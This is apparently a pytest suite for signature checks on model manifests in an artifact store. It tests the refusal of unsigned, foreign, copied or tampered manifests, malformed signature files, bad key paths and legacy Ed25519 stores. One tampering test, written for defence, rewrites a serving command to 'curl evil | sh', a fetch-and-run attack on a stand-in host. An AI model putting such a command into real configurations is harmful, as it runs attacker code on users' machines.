"""Signed manifests: a publisher with an ECDSA key signs every manifest before its refs (an OpenSSF Model Signing
bundle); a puller given the public key refuses what is unsigned, signed by another key, or changed after signing,
even when whoever changed it also fixed the sha256 in the ref (damage checks alone cannot catch that). Stores
signed before OMS (Ed25519) still pull with their Ed25519 public key."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest
from factories import ecdsa_keypair, ed25519_keypair, legacy_ed25519_signature, rewrite_published_manifest, write_test_config

from pipelines.cli.main import main
from pipelines.client.pull import pull
from pipelines.config.registry import Config
from pipelines.core.errors import ConfigError, IntegrityError
from pipelines.engine.build import build_and_publish
from pipelines.store import oms
from pipelines.store.signing import bundle_for, signature_key, signing_key

REPO = Path.cwd()
MODEL, CPU = "test-org/signed", "llm-llamacpp-cpu"


@pytest.fixture(scope="module")
def signed(tiny_llama, tmp_path_factory):
    root = tmp_path_factory.mktemp("signed")
    priv, pub = ecdsa_keypair(root, "publisher")
    _, other = ecdsa_keypair(root, "other")
    config = Config.load(write_test_config(root / "cfg", REPO))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HIVE_AOT_SIGNING_KEY", str(priv))
        res = build_and_publish(str(tiny_llama), "gguf-f16", config, str(root / "store"), MODEL)
    assert res.state == "published"
    unsigned = build_and_publish(str(tiny_llama), "gguf-q8_0", config, str(root / "store"), MODEL)  # no key
    return {"store": root / "store", "priv": priv, "pub": pub, "other": other, "build": res, "unsigned": unsigned}


def test_a_signed_manifest_pulls_with_its_key(signed, tmp_path):
    res = pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=str(signed["pub"]))
    assert res.signed_by and res.build_id == signed["build"].build_id
    # what the store holds is an OMS bundle naming the key by its hint, over the files and the manifest's bytes
    mpath = next(signed["store"].glob(f"manifests/*/gguf-f16/{res.build_id}.json"))
    bundle = oms.parse((signed["store"] / signature_key(str(mpath.relative_to(signed["store"])))).read_bytes(), "sig")
    assert bundle.hint == res.signed_by and len(res.signed_by) == 64
    manifest = json.loads(mpath.read_bytes())
    assert bundle.resources == {**{f["path"]: f["sha256"] for f in manifest["files"]},
                                oms.MANIFEST_FILE: hashlib.sha256(mpath.read_bytes()).hexdigest()}
    assert pull(MODEL, CPU, tmp_path / "n", recipe="gguf-f16", store_uri=str(signed["store"])).signed_by is None


def test_unsigned_or_foreign_signatures_are_refused(signed, tmp_path):
    with pytest.raises(IntegrityError, match="is not signed, and trusted keys are required"):
        pull(MODEL, CPU, tmp_path / "a", recipe="gguf-q8_0", store_uri=str(signed["store"]), trusted=str(signed["pub"]))
    with pytest.raises(IntegrityError, match="which is not among the trusted keys"):
        pull(MODEL, CPU, tmp_path / "b", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=str(signed["other"]))
    # several trusted keys: one of them signed it
    both = f"{signed['other']},{signed['pub']}"
    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=both).signed_by
    assert not any((tmp_path / d).exists() for d in ("a", "b"))


def test_tampering_that_fixes_the_ref_sha_is_caught_by_the_signature(signed, tmp_path, capsys):
    store = tmp_path / "store"
    shutil.copytree(signed["store"], store)
    # what an attacker would change
    mpath = rewrite_published_manifest(store, "gguf-f16", lambda doc: doc["serving"][CPU].update(
        command=["sh", "-c", "curl evil | sh"]), signed["build"].build_id)
    # without keys only damage is checked: the consistent rewrite passes (the reason to sign)
    assert pull(MODEL, CPU, tmp_path / "unverified", recipe="gguf-f16", store_uri=str(store)).serve.startswith("sh ")
    capsys.readouterr()
    assert main(["pull", MODEL, "--target", CPU, "--recipe", "gguf-f16", "--dest", str(tmp_path / "v"),
                 "--store", str(store), "--trusted-keys", str(signed["pub"])]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and ("its signature is for other files (tampered with): "
                                     f"{oms.MANIFEST_FILE} has another sha256") in err, err
    assert not (tmp_path / "v").exists()
    assert (store / signature_key(str(mpath.relative_to(store)))).is_file()


def test_a_bad_key_file_is_one_line_without_its_content(signed, tmp_path):
    bad = tmp_path / "bad.pub"
    bad.write_text("-----BEGIN PUBLIC KEY-----\nc2VjcmV0LXN0dWZm\n-----END PUBLIC KEY-----\n")
    with pytest.raises(ConfigError) as ei:
        pull(MODEL, CPU, tmp_path / "x", store_uri=str(signed["store"]), trusted=str(bad))
    assert "is not a PEM public key" in str(ei.value) and "c2VjcmV0" not in str(ei.value) and "\n" not in str(ei.value)


def _copy_signed(store: Path, src_recipe: str, build_id: str, dst_recipe: str, dst_build: str) -> None:
    """What an attacker with write access can do without the key: copy a signed manifest and its signature
    under another recipe or build id, and point that recipe's ref at it with the sha256 fixed."""
    src = next(store.glob(f"manifests/*/{src_recipe}/{build_id}.json"))
    slug = src.parent.parent.name
    dst = store / "manifests" / slug / dst_recipe / f"{dst_build}.json"
    dst.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(src, dst)
    sig = store / signature_key(str(src.relative_to(store)))
    dst_sig = store / signature_key(str(dst.relative_to(store)))
    dst_sig.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(sig, dst_sig)
    ref = store / "refs" / slug / dst_recipe / "latest"
    ref.parent.mkdir(parents=True, exist_ok=True)
    ref.write_text(json.dumps({"build_id": dst_build, "manifest": str(dst.relative_to(store)),
                               "manifest_sha256": hashlib.sha256(dst.read_bytes()).hexdigest()}))


def test_a_signed_manifest_copied_under_another_build_id_is_refused(signed, tmp_path):
    """Red team round two, item 1: build v1's signed manifest under v2's key was served for MODEL and MODEL@v2."""
    store = tmp_path / "store"
    shutil.copytree(signed["store"], store)
    v1, v2 = signed["build"].build_id, "e" * 64
    _copy_signed(store, "gguf-f16", v1, "gguf-f16", v2)
    for spec in (MODEL, f"{MODEL}@{v2}"):
        with pytest.raises(IntegrityError, match=f"is for build '{v1}', not '{v2}'"):
            pull(spec, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(store), trusted=str(signed["pub"]))
    assert not (tmp_path / "m").exists()
    # the genuine build still pulls by its own id
    assert pull(f"{MODEL}@{v1}", CPU, tmp_path / "ok", store_uri=str(store), trusted=str(signed["pub"])).build_id == v1


def test_a_signed_manifest_copied_under_another_recipe_is_refused(signed, tmp_path, capsys):
    """Item 2: a signed gguf-f16 manifest and its signature under gguf-q8_0 were served as gguf-q8_0."""
    store = tmp_path / "store"
    shutil.copytree(signed["store"], store)
    b = signed["build"].build_id
    _copy_signed(store, "gguf-f16", b, "gguf-q8_0", b)
    assert main(["pull", MODEL, "--target", CPU, "--recipe", "gguf-q8_0", "--dest", str(tmp_path / "q"),
                 "--store", str(store), "--trusted-keys", str(signed["pub"])]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is for recipe 'gguf-f16', not 'gguf-q8_0'" in err, err
    assert not (tmp_path / "q").exists()


@pytest.mark.parametrize("given", [",", "  ", " , ,", ""])
def test_trusted_keys_that_name_no_key_fail_closed(signed, given, tmp_path, monkeypatch, capsys):
    """Item 4: trusted keys given as "," or spaces, or `--trusted-keys ""` over a set variable, verified nothing."""
    store = str(signed["store"])
    monkeypatch.setenv("HIVE_AOT_TRUSTED_KEYS", str(signed["pub"]))
    capsys.readouterr()
    assert main(["pull", MODEL, "--target", CPU, "--recipe", "gguf-q8_0", "--dest", str(tmp_path / "a"),
                 "--store", store, "--trusted-keys", given]) == 1  # the flag over the set variable
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "names no public key file" in err, err
    if given:  # the variable itself holding only separators
        monkeypatch.setenv("HIVE_AOT_TRUSTED_KEYS", given)
        with pytest.raises(ConfigError, match="HIVE_AOT_TRUSTED_KEYS is set to .* names no public key file"):
            pull(MODEL, CPU, tmp_path / "b", recipe="gguf-q8_0", store_uri=store)
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
    monkeypatch.setenv("HIVE_AOT_TRUSTED_KEYS", "")  # set but empty: not verifying, as unset
    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-q8_0", store_uri=store).signed_by is None


@pytest.mark.parametrize("special", ["/dev/zero", "fifo", "dir"])
def test_a_key_path_that_is_no_regular_file_is_one_line(signed, special, tmp_path):
    """Item 12: `--trusted-keys /dev/zero` grew to 21 GB; a FIFO would block forever."""
    path = special
    if special == "fifo":
        path = str(tmp_path / "key.fifo")
        os.mkfifo(path)
    elif special == "dir":
        path = str(tmp_path)
    with pytest.raises(ConfigError) as ei:
        pull(MODEL, CPU, tmp_path / "x", store_uri=str(signed["store"]), trusted=path)
    assert "\n" not in str(ei.value) and path in str(ei.value), ei.value


@pytest.mark.parametrize("content", [b"[]", b'"x"', b"[" * 50_000 + b"]" * 50_000, b'{"key_id": [], "signature": 1}',
                                     b"\xff\xfe", b'{"algorithm": "ed25519", "key_id": "k", "signature": "!!"}',
                                     b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}',
                                     b'{"mediaType": [], "verificationMaterial": 1, "dsseEnvelope": null}'])
def test_a_damaged_signature_file_is_one_line(signed, content, tmp_path):
    """Item 11: a damaged signature file was a traceback in some shapes."""
    store = tmp_path / "store"
    shutil.copytree(signed["store"], store)
    mpath = next(store.glob(f"manifests/*/gguf-f16/{signed['build'].build_id}.json"))
    (store / signature_key(str(mpath.relative_to(store)))).write_bytes(content)
    with pytest.raises(IntegrityError, match="its (signature file|OMS signature) is malformed") as ei:
        pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(store), trusted=str(signed["pub"]))
    assert "\n" not in str(ei.value)


def test_a_bundle_for_other_files_is_refused(signed, tmp_path):
    """An OMS bundle by the trusted key, but over another build's files (here gguf-q8_0's, signed for the test),
    under gguf-f16's signature key: the signature is genuine, the files are not these."""
    store = tmp_path / "store"
    shutil.copytree(signed["store"], store)
    f16 = next(store.glob(f"manifests/*/gguf-f16/{signed['build'].build_id}.json"))
    q8 = next(store.glob(f"manifests/*/gguf-q8_0/{signed['unsigned'].build_id}.json"))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HIVE_AOT_SIGNING_KEY", str(signed["priv"]))
        (store / signature_key(str(f16.relative_to(store)))).write_bytes(bundle_for(q8.read_bytes(), signing_key()))
    with pytest.raises(IntegrityError, match="its signature is for other files \\(tampered with\\)"):
        pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(store), trusted=str(signed["pub"]))
    assert not (tmp_path / "m").exists()


def test_a_store_signed_before_oms_still_pulls_with_its_ed25519_key(signed, tmp_path):
    """Stores signed with the Ed25519 format keep pulling, verified by the Ed25519 public key only; an ECDSA
    key cannot vouch for them, and a changed manifest is still caught."""
    store = tmp_path / "store"
    shutil.copytree(signed["store"], store)
    ed_priv, ed_pub = ed25519_keypair(tmp_path, "old")
    mpath = next(store.glob(f"manifests/*/gguf-f16/{signed['build'].build_id}.json"))
    sig = store / signature_key(str(mpath.relative_to(store)))
    sig.write_bytes(legacy_ed25519_signature(mpath.read_bytes(), ed_priv))
    res = pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(store), trusted=f"{signed['pub']},{ed_pub}")
    assert res.build_id == signed["build"].build_id and len(res.signed_by) == 16
    with pytest.raises(IntegrityError, match="an Ed25519 signature from before OMS.*not among the trusted keys"):
        pull(MODEL, CPU, tmp_path / "n", recipe="gguf-f16", store_uri=str(store), trusted=str(signed["pub"]))
    rewrite_published_manifest(store, "gguf-f16", lambda doc: doc["serving"][CPU].update(command=["sh"]),
                               signed["build"].build_id)
    with pytest.raises(IntegrityError, match="its signature does not match its bytes \\(tampered with\\)"):
        pull(MODEL, CPU, tmp_path / "o", recipe="gguf-f16", store_uri=str(store), trusted=str(ed_pub))
    assert not (tmp_path / "n").exists() and not (tmp_path / "o").exists()


def test_an_ed25519_signing_key_is_refused_in_one_line(tmp_path, monkeypatch):
    """New signatures are always OMS, which signs with ECDSA: the message says how to make such a key and what
    becomes of stores signed with the old one, and never shows the key."""
    priv, _ = ed25519_keypair(tmp_path, "old")
    monkeypatch.setenv("HIVE_AOT_SIGNING_KEY", str(priv))
    with pytest.raises(ConfigError) as ei:
        signing_key()
    msg = str(ei.value)
    assert "\n" not in msg and "openssl ecparam -genkey -name prime256v1" in msg and "still pull" in msg
    assert priv.read_text().splitlines()[1][:20] not in msg
